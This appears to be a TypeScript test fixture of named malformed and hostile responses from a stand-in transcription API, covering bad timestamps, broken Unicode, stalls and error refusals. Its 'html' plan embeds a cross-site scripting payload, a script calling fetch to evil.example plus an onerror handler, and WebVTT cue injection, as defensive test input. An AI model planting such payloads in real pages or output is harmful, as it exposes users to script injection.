// Plans of transcriptions by name, well-formed and hostile.
import { refusals, type Refusal } from './openai-stand-in-wire.ts'

export interface TranscribedSegment {
  readonly start: unknown
  readonly end: unknown
  readonly text: unknown
  readonly speaker?: unknown
}

export interface TranscriptionPlan {
  readonly refusal?: Refusal
  readonly segments?: readonly TranscribedSegment[]
  /** The whole body, instead of an answer. */
  readonly body?: string
  readonly ending?: 'done' | 'cut' | 'stall' | 'flood'
  /** Usage that the answer reports; depends on the model when absent. */
  readonly usage?: object | null
  /** Milliseconds before the answer. */
  readonly firstMs?: number
}

/** Plans by name. A test sets one before it transcribes, because a request holds only audio and cannot name it. */
export const transcriptionPlans = {
  correct: {},
  empty: { segments: [] },
  html: {
    segments: [
      {
        start: 0,
        end: 1,
        text: '<script>fetch("https://evil.example")</script><img src=x onerror=alert(1)>\r\nWEBVTT\n\n00:00.000 --> 99:00.000',
        speaker: '<v Juez>El juez',
      },
    ],
  },
  backward: {
    segments: [
      { start: 4, end: 2, text: 'tercero' },
      { start: -3, end: 1, text: 'primero' },
      { start: 'pronto', end: null, text: 'segundo' },
      { start: 1, end: 0, text: '   ' },
    ],
  },
  overlapping: {
    segments: [
      { start: 0, end: 4, text: 'uno', speaker: 'A' },
      { start: 1, end: 5, text: 'dos', speaker: 'B' },
      { start: 1, end: 2, text: 'tres', speaker: 'A' },
    ],
  },
  huge: {
    segments: [
      { start: 1e300, end: 1e308, text: 'lejos' },
      { start: 0, end: 1e12, text: 'todo' },
    ],
  },
  chatter: { segments: [{ start: 0, end: 1, text: 'gracias por ver el video '.repeat(4_000) }] },
  broken_words: { segments: [{ start: 0, end: 1, text: 'a\0b\ud800c\u202ed', speaker: 7 }] },
  stall: { ending: 'stall' },
  cut: { ending: 'cut' },
  flood: { ending: 'flood' },
  garbage: { body: '{"text": "El cliente confesó en privado' },
  page: { body: '<html>Welcome</html>' },
  wrong_shape: { body: '{"segments": 7, "text": null}' },
  mad_usage: { usage: { type: 'tokens', input_tokens: 99_000_000_000, output_tokens: 1, total_tokens: 1 } },
  no_usage: { usage: null },
  rate: { refusal: refusals.rate() },
  quota: { refusal: refusals.quota() },
  wrong_key: { refusal: refusals.wrongKey('sk-proj-not-ours-0000') },
  broken: { refusal: refusals.broken() },
  too_large: {
    refusal: { status: 413, body: '<html><head><title>413 Request Entity Too Large</title></head></html>' },
  },
} satisfies Record<string, TranscriptionPlan> as Record<TranscriptionPlanName, TranscriptionPlan>
export type TranscriptionPlanName =
  | 'correct'
  | 'empty'
  | 'html'
  | 'backward'
  | 'overlapping'
  | 'huge'
  | 'chatter'
  | 'broken_words'
  | 'stall'
  | 'cut'
  | 'flood'
  | 'garbage'
  | 'page'
  | 'wrong_shape'
  | 'mad_usage'
  | 'no_usage'
  | 'rate'
  | 'quota'
  | 'wrong_key'
  | 'broken'
  | 'too_large'
